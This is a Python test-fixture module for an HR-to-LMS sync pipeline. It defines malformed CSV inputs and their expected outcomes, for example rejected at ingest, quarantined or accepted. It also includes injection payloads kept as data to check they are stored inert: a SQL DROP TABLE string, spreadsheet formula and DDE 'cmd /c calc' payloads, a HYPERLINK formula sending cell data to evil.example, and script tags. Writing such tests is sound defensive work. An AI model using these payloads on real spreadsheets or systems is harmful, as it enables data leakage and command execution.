"""The malformed HR inputs, each with the outcome it must have.

Outcome classes:

- ``rejected``: the run stops (at ingest: ``IngestError`` naming the file, line and field; at the gate:
  ``GateFailed`` naming the file and, for row-level evidence, the lines and field). Nothing downstream:
  no new plan, no LMS request, nothing half-loaded.
- ``quarantined``: the bad line is in ``dq.quarantine`` with its rule, field and value; the rest of the
  file flows; the person's LMS account is exactly as before (same ``meta.version``), a new person is
  not created.
- ``accepted``: the data is valid; the LMS gets exactly the legitimate change (values stored verbatim,
  shown inert).
- ``held``: the plan is computed but the breaker holds it; nothing reaches the LMS until a person decides.

Builders take the current good HR rows (``list[dict]`` in the export's columns) and return file content.
"""
from __future__ import annotations

import codecs
from collections.abc import Callable
from dataclasses import dataclass, field

from ..sources.hrfiles import HEADER, ORG_CSV, WORKERS, csv_text, worker
from .harness import pid

Rows = list[dict[str, str]]
WORKERS_MAPPING: dict[str, str] = dict(WORKERS.columns)                  # canonical -> source column
WORKERS_COLUMNS = [{v: k for k, v in WORKERS_MAPPING.items()}[h] for h in HEADER]   # canonical, file order


def _body(rows: Rows) -> str:
    """CSV lines of `rows` without the header."""
    return csv_text(rows).split("\n", 1)[1]


# --------------------------------------------------------------------------------------------------
# Rejected: the file cannot be loaded, or the batch as a whole is wrong.
# --------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Rejected:
    id: str
    stage: str                                  # ingest | gate
    build: Callable[[Rows], bytes | str | None]  # the workers file (None: not landed)
    says: tuple[str, ...]                       # in the error message
    line: int | Callable[[Rows], int] | None = None
    field: str | None = None
    org: Callable[[Rows], bytes | str | None] | None = None   # the org units file (default: the good one)
    bad_file: str = "workers"                   # which file the error must name


def _truncated_mid_row(rows: Rows) -> str:
    text = csv_text(rows)
    return text[: text.rindex("Analyst")]       # cut inside the last row, after its Job_Code


def _truncated_in_utf8_char(rows: Rows) -> bytes:
    data = csv_text([*rows, worker(99, Last_Name="Zoë")]).encode("utf-8")
    return data[: data.rindex("ë".encode()) + 1]  # ends after the first byte of ë


def _latin1(rows: Rows) -> bytes:
    rows = [dict(r) for r in rows]
    rows[29]["Last_Name"] = "Müller"             # line 31; all lines before it are ASCII
    return csv_text(rows).encode("latin-1")


def _xlsx(_rows: Rows) -> bytes:
    # the first bytes of an .xlsx (a ZIP archive) renamed to .csv
    return b"PK\x03\x04\x14\x00\x06\x00\x08\x00\x00\x00!\x00b\xee\x9dh^\x01\x00\x00\x90\x04\x00\x00" \
           b"\x13\x00\x08\x02[Content_Types].xml \xa2\x04\x02(\xa0\x00\x02\x00\x00\x00\x00\x00\x00\n"


def _duplicate_header(rows: Rows) -> str:
    # a second "Last_Name" column (e.g. a spouse's name) with other values: which one is meant?
    return csv_text([{**r, "Last_Name ": "Other"} for r in rows], header=[*HEADER, "Last_Name "])


def _extra_field(rows: Rows) -> str:
    body = _body(rows).splitlines(keepends=True)
    body[9] = body[9].rstrip("\n") + ",surplus\n"  # line 11
    return ",".join(HEADER) + "\n" + "".join(body)


def _short_row(rows: Rows) -> str:
    body = _body(rows).splitlines(keepends=True)
    body.insert(19, f"{pid(99)},100099,Half\n")    # line 21: the rest of the row is missing
    return ",".join(HEADER) + "\n" + "".join(body)


def _nul_byte(rows: Rows) -> bytes:
    rows = [dict(r) for r in rows]
    rows[14]["Job_Title"] = "Ana\x00lyst"         # line 16
    return csv_text(rows).encode("utf-8")


def _unclosed_quote(rows: Rows) -> str:
    body = _body(rows).splitlines(keepends=True)
    body[10] = body[10].replace(",Analyst,", ',"Analyst,', 1)   # line 12: the quote is never closed
    return ",".join(HEADER) + "\n" + "".join(body)


def _blank_line_mid_file(rows: Rows) -> str:
    body = _body(rows).splitlines(keepends=True)
    body.insert(24, "\n")                          # line 26
    return ",".join(HEADER) + "\n" + "".join(body)


def _no_header(rows: Rows) -> str:
    return _body(rows)


def _dropped_optional_column(rows: Rows) -> str:
    return csv_text(rows, header=[h for h in HEADER if h != "Manager_ID"])


def _concatenated_twice(rows: Rows) -> str:
    return csv_text(rows) + csv_text(rows)        # the second header lands as a data line


def _duplicate_person_id(rows: Rows) -> str:
    rows = [dict(r) for r in rows]
    rows.append({**rows[9], "First_Name": "Someone", "Work_Email": "someone.else@example.com"})
    return csv_text(rows)


def _missing_emails(rows: Rows) -> str:
    return csv_text([{**r, "Work_Email": ""} if i % 5 < 3 else r for i, r in enumerate(rows)])   # 60%


def _iso_dates(rows: Rows) -> str:
    def iso(us: str) -> str:
        return f"{us[6:]}-{us[:2]}-{us[3:5]}" if us else us
    return csv_text([{**r, **{k: iso(r[k]) for k in ("Hire_Date", "Start_Date", "Termination_Date",
                                                      "Last_Day_Of_Work")}} for r in rows])


def _ten_times(rows: Rows) -> str:
    extra = [worker(1000 + i, Org_Unit="ORG0002", Manager_ID=pid(2)) for i in range(9 * len(rows))]
    return csv_text([*rows, *extra])


REJECTED_AT_INGEST = [
    Rejected("empty_file_0_bytes", "ingest", lambda r: b"", ("empty",), line=1),
    Rejected("blank_lines_only", "ingest", lambda r: "\r\n\r\n\r\n", ("header line is blank",), line=1),
    Rejected("workers_file_not_landed", "ingest", lambda r: None, ("not found",)),
    Rejected("truncated_mid_row", "ingest", _truncated_mid_row, ("missing data", "truncated"),
             line=lambda r: len(r) + 1, field="Job_Family (job_family)"),
    Rejected("truncated_inside_quoted_value", "ingest", lambda r: csv_text(r) + f'{pid(99)},100099,"Trunc',
             ("unterminated", "never closed"), line=lambda r: len(r) + 2),
    Rejected("truncated_inside_utf8_character", "ingest", _truncated_in_utf8_char,
             ("ends inside a UTF-8 character",), line=lambda r: len(r) + 2),
    Rejected("semicolon_delimited", "ingest", lambda r: csv_text(r, delimiter=";"),
             ("';'-delimited", "wrong delimiter"), line=1, field="Employee_ID (person_id)"),
    Rejected("tab_delimited", "ingest", lambda r: csv_text(r, delimiter="\t"),
             ("'\\t'-delimited", "wrong delimiter"), line=1, field="Employee_ID (person_id)"),
    Rejected("latin1_encoded", "ingest", _latin1, ("not UTF-8", "0xfc"), line=31),
    Rejected("utf16_encoded", "ingest", lambda r: csv_text(r).encode("utf-16"), ("UTF-16",), line=1),
    Rejected("utf16_without_bom", "ingest", lambda r: csv_text(r).encode("utf-16-le"),
             ("NUL bytes", "UTF-16"), line=1),
    Rejected("excel_workbook_renamed_csv", "ingest", _xlsx, ("ZIP archive", "Excel"), line=1),
    Rejected("html_login_page", "ingest",
             lambda r: "<!DOCTYPE html>\n<html><head><title>Session expired</title></head><body>Sign in</body></html>\n",
             ("required column(s) missing", "header has 1 column(s)", "no column of the mapping"), line=1,
             field="Employee_ID (person_id)"),
    Rejected("json_instead_of_csv", "ingest",
             lambda r: '[{"Employee_ID": "P0000001", "First_Name": "First1"}]\n',
             ("required column(s) missing", "no column of the mapping"), line=1, field="Employee_ID (person_id)"),
    Rejected("header_row_missing", "ingest", _no_header, ("required column(s) missing", "header has 21",
                                                          "no header line"),
             line=1, field="Employee_ID (person_id)"),
    Rejected("required_column_missing", "ingest",
             lambda r: csv_text(r, header=[h for h in HEADER if h != "Work_Email"]),
             ("required column(s) missing",), line=1, field="Work_Email (work_email)"),
    Rejected("optional_column_dropped", "ingest", _dropped_optional_column,
             ("previous file", "blanked for everyone"), line=1, field="Manager_ID (manager_person_id)"),
    Rejected("duplicate_header_column", "ingest", _duplicate_header, ("appears more than once",),
             line=1, field="Last_Name"),
    Rejected("row_with_extra_field", "ingest", _extra_field, ("extra data after last expected column",), line=11),
    Rejected("row_with_missing_fields", "ingest", _short_row, ("missing data", "wrong number of fields"),
             line=21, field="Last_Name (last_name)"),
    Rejected("blank_line_mid_file", "ingest", _blank_line_mid_file, ("the line is blank",), line=26),
    Rejected("unclosed_quote_mid_file", "ingest", _unclosed_quote, ("quote opened on line 12",), line=12),
    Rejected("nul_byte_in_value", "ingest", _nul_byte, ("0x00",), line=16),
    Rejected("cr_only_line_ends", "ingest", lambda r: csv_text(r, newline="\r"),
             ("carriage return",), line=1),
    Rejected("org_units_file_wrong_delimiter", "ingest", lambda r: csv_text(r),
             ("';'-delimited", "wrong delimiter"), line=1, field="Org_Code (org_unit_code)",
             org=lambda r: ORG_CSV.replace(",", ";"), bad_file="org_units"),
]

REJECTED_BY_GATE = [
    Rejected("header_only", "gate", lambda r: csv_text([]), ("no data rows", "(rows: 0)")),
    Rejected("duplicate_person_id_conflicting", "gate", _duplicate_person_id,
             ("line(s) 11, 52", "Employee_ID (person_id)", "same person_id")),
    Rejected("sixty_percent_rows_missing_email", "gate", _missing_emails,
             ("30 of 50 rows failed row checks", "limit 20%; mostly 30 × missing_email (Work_Email)")),
    Rejected("dates_in_another_format", "gate", _iso_dates, ("50 of 50 rows failed row checks",
                                                              "50 × unparseable_date (Hire_Date)")),
    Rejected("export_concatenated_twice", "gate", _concatenated_twice, ("51 of 101 rows failed row checks",
                                                                        "mostly 50 × duplicate_row")),
    Rejected("ten_times_the_rows", "gate", _ten_times, ("500 rows", "10.0x the last good snapshot (50 rows",
                                                        "HRLMS_MAX_GROWTH_FACTOR")),
    Rejected("org_unit_code_twice", "gate", lambda r: csv_text(r), ("line(s) 3, 4", "Org_Code (org_unit_code)",
                                                                    "appears twice"),
             org=lambda r: ORG_CSV + "ORG0002,Finance (old),ORG0001,department,ACTIVE\n", bad_file="org_units"),
]


# --------------------------------------------------------------------------------------------------
# Accepted as they are: format variants that carry the same data (checked at ingest: the landed rows
# equal the good rows field by field, so nothing downstream can differ; the injection day below takes
# the same variants all the way to the LMS).
# --------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Variant:
    id: str
    build: Callable[[Rows], bytes | str]


def _reordered(rows: Rows) -> str:
    return csv_text(rows, header=list(reversed(HEADER)))


def _header_case(rows: Rows) -> str:
    text = csv_text(rows)
    header, body = text.split("\n", 1)
    return ",".join(f"  {h.upper()} " for h in header.split(",")) + "\n" + body


def _all_quoted(rows: Rows) -> str:
    import csv
    import io

    buf = io.StringIO()
    w = csv.writer(buf, quoting=csv.QUOTE_ALL, lineterminator="\n")
    w.writerow(HEADER)
    for r in rows:
        w.writerow([r.get(h, "") for h in HEADER])
    return buf.getvalue()


FORMAT_VARIANTS = [
    Variant("utf8_bom", lambda r: codecs.BOM_UTF8 + csv_text(r).encode()),
    Variant("crlf_line_ends", lambda r: csv_text(r, newline="\r\n")),
    Variant("extra_unmapped_columns", lambda r: csv_text(
        [{**x, "Cost_Center": "=1+1", "Notes": "free text, with a comma"} for x in r],
        header=[*HEADER, "Cost_Center", "Notes"])),
    Variant("columns_reordered", _reordered),
    Variant("header_case_and_padding", _header_case),
    Variant("every_field_quoted", _all_quoted),
    Variant("no_final_line_end", lambda r: csv_text(r).rstrip("\n")),
    Variant("trailing_blank_lines", lambda r: csv_text(r, newline="\r\n") + "\r\n\r\n"),
]


# --------------------------------------------------------------------------------------------------
# Row defects: quarantined (or accepted) on two days, each among good rows and legitimate changes.
# --------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class RowDefect:
    id: str
    person: int                      # worker number; > 50: a person the LMS has never seen
    change: dict[str, str] = field(default_factory=dict)
    outcome: str = "quarantined"     # quarantined | accepted
    rule: str | None = None
    field: str | None = None
    value: str | None = None
    kind: str = "edit"               # edit (the person's line) | duplicate (a second, identical line) | new

    @property
    def key(self) -> str | None:
        return None if self.change.get("Employee_ID") == "" else pid(self.person)


def _t(**kw: str) -> dict[str, str]:
    return kw


QUARANTINE_DAY_1 = [
    RowDefect("unparseable_hire_date", 3, _t(Hire_Date="13/45/2020"), rule="unparseable_date", field="hire_date"),
    RowDefect("impossible_calendar_date", 4, _t(Start_Date="02/30/2020"), rule="unparseable_date",
              field="start_date"),
    RowDefect("hire_date_in_2200", 5, _t(Hire_Date="01/15/2200"), rule="implausible_date", field="hire_date",
              value="2200-01-15"),
    RowDefect("hire_date_in_1899", 6, _t(Hire_Date="12/31/1899"), rule="implausible_date", field="hire_date",
              value="1899-12-31"),
    RowDefect("termination_before_hire", 7, _t(Worker_Status="T", Termination_Date="01/01/2019",
                                               Last_Day_Of_Work="01/01/2019"),
              rule="termination_before_hire", field="termination_date", value="2019-01-01"),
    RowDefect("invalid_email", 8, _t(Work_Email="first8.last8@"), rule="invalid_email", field="work_email",
              value="first8.last8@"),
    RowDefect("unknown_status_code", 9, _t(Worker_Status="Z"), rule="unknown_status", field="employment_status",
              value="z"),
    RowDefect("blank_first_name", 12, _t(First_Name="   "), rule="missing_first_name", field="first_name"),
    RowDefect("exact_duplicate_line", 13, kind="duplicate", rule="duplicate_row"),
    RowDefect("new_hire_without_hire_date", 60, _t(Hire_Date="", Start_Date=""), kind="new",
              rule="missing_hire_date", field="hire_date"),
]
LEGIT_DAY_1 = {20: _t(Job_Title="Senior Analyst")}            # + a new hire, P51
NEW_HIRE_DAY_1 = worker(51, Org_Unit="ORG0002", Manager_ID=pid(2))

QUARANTINE_DAY_2 = [
    RowDefect("start_date_typo_2202", 14, _t(Start_Date="01/15/2202"), rule="implausible_date",
              field="start_date", value="2202-01-15"),
    RowDefect("last_day_1900_placeholder", 15, _t(Last_Day_Of_Work="01/01/1900"), rule="termination_before_hire",
              field="last_day_of_work", value="1900-01-01"),
    RowDefect("termination_date_9999_placeholder", 17, _t(Termination_Date="12/31/9999"),
              rule="implausible_date", field="termination_date", value="9999-12-31"),
    RowDefect("terminated_in_2200", 18, _t(Worker_Status="T", Termination_Date="12/31/2200"),
              rule="implausible_date", field="termination_date", value="2200-12-31"),
    RowDefect("blank_last_name", 19, _t(Last_Name=""), rule="missing_last_name", field="last_name"),
    RowDefect("blank_email", 22, _t(Work_Email=" "), rule="missing_email", field="work_email"),
    RowDefect("hire_date_blanked", 25, _t(Hire_Date=""), rule="missing_hire_date", field="hire_date"),
    RowDefect("missing_person_id", 70, _t(Employee_ID=""), kind="new", rule="missing_person_id", field="person_id"),
    # accepted: valid rows (the oddity is reported where the product reports it)
    RowDefect("hire_date_1900_01_01_placeholder", 16, _t(Hire_Date="01/01/1900"), outcome="accepted"),
    RowDefect("manager_loop", 23, _t(Manager_ID=pid(24)), outcome="accepted"),   # and 24 -> 23 (below)
    RowDefect("self_manager", 26, _t(Manager_ID=pid(26)), outcome="accepted"),
]
LEGIT_DAY_2 = {21: _t(Last_Name="Renamed"), 24: _t(Manager_ID=pid(23))}


def day_rows(good: Rows, defects: list[RowDefect], legit: dict[int, dict[str, str]],
             new: list[dict[str, str]] = ()) -> tuple[Rows, dict[str, int]]:
    """The day's lines (good rows + legit changes + defects) and the line number of each defect."""
    by_pid = {r["Employee_ID"]: dict(r) for r in good}
    for i, change in legit.items():
        by_pid[pid(i)].update(change)
    edits = {d.person: d for d in defects if d.kind == "edit"}
    for i, d in edits.items():
        by_pid[pid(i)].update(d.change)
    rows = list(by_pid.values()) + [dict(r) for r in new]
    lines: dict[str, int] = {}
    for d in defects:
        if d.kind == "edit":
            lines[d.id] = 2 + next(n for n, r in enumerate(rows) if r["Employee_ID"] == pid(d.person))
        elif d.kind == "duplicate":
            rows.append(dict(by_pid[pid(d.person)]))
            lines[d.id] = len(rows) + 1
        else:
            rows.append(worker(d.person, Org_Unit="ORG0002", Manager_ID=pid(2), **d.change))
            lines[d.id] = len(rows) + 1
    return rows, lines


# --------------------------------------------------------------------------------------------------
# Injection payloads: valid values that must be stored verbatim and shown inert.
# --------------------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Payload:
    id: str
    person: int
    change: dict[str, str]
    lms: dict[str, str]              # SCIM attribute path -> the verbatim value the LMS must hold
    outcome: str = "accepted"


SQL = "Robert'); DROP TABLE workers;--"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")'
DDE = "=cmd|' /c calc'!a0"          # lower case: logins are lower-cased (case-insensitive)
PLUS = "+SUM(1+1)*cmd|' /C calc'!A0"
AT = "@SUM(A1:A10)"
MINUS = "-2+3"
SCRIPT = "<script>alert('hrlms')</script>"
SCRIPT_EMAIL = "<script>alert(1)</script>"

PAYLOADS = [
    Payload("sql_injection_first_name", 31, _t(First_Name=SQL),
            {"name.givenName": SQL, "displayName": f"{SQL} Last31"}),
    Payload("formula_hyperlink_last_name", 32, _t(Last_Name=HYPERLINK),
            {"name.familyName": HYPERLINK, "displayName": f"First32 {HYPERLINK}"}),
    Payload("formula_dde_login", 33, _t(Login=DDE), {"userName": DDE}),
    Payload("formula_plus_preferred_name", 34, _t(Preferred_Name=PLUS), {"displayName": f"{PLUS} Last34"}),
    Payload("formula_at_job_title", 35, _t(Job_Title=AT), {"title": AT}),
    Payload("formula_minus_last_name", 37, _t(Last_Name=MINUS), {"name.familyName": MINUS}),
    Payload("html_script_job_title", 36, _t(Job_Title=SCRIPT), {"title": SCRIPT}),
    Payload("quoted_delimiter_and_quotes_in_value", 39, _t(Job_Title='Analyst, "Senior"'),
            {"title": 'Analyst, "Senior"'}),
    Payload("non_ascii_names", 40, _t(First_Name="Zoë", Last_Name="Ångström-Núñez 李"),
            {"name.givenName": "Zoë", "name.familyName": "Ångström-Núñez 李"}),
    Payload("html_script_in_quarantined_email", 38, _t(Work_Email=SCRIPT_EMAIL), {}, outcome="quarantined"),
]


def injection_file(rows: Rows) -> bytes:
    """The payload day in every accepted format variant at once: BOM, CRLF, reordered and re-cased
    header, extra columns."""
    header = [*reversed(HEADER), "Cost_Center", "Notes"]
    extra = [{**r, "Cost_Center": "@SUM(1)", "Notes": "=2+2"} for r in rows]
    text = csv_text(extra, header=header, newline="\r\n")
    head, body = text.split("\r\n", 1)
    return codecs.BOM_UTF8 + (",".join(h.upper() for h in head.split(",")) + "\r\n" + body).encode("utf-8")
